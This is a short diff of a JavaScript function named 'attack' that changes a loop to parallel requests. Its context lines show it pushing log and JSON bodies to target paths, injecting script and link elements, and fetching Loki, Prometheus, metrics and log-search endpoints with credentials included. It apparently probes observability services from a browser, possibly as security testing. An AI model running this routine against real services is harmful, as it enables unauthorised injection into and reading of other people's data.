@@ -30,7 +30,7 @@ async function attack(base, targets) {
     hidden(made);
   });
 
-  for (const target of targets) {
+  await Promise.all(targets.map(async (target) => {
     const [method, path] = target.split(' ');
     const url = base + path;
     const body = path.includes('push') ? lines : json;
@@ -55,7 +55,7 @@ async function attack(base, targets) {
       bounded(element('script', url)),
       bounded(element('link', url)),
     ]);
-  }
+  }));
 
   for (const path of ['/api/clew/v1/logs/search', '/prometheus/api/v1/labels', '/loki/api/v1/labels', '/metrics', '/']) {
     await bounded(fetch(base + path, { credentials: 'include' }).then(async (answer) => {
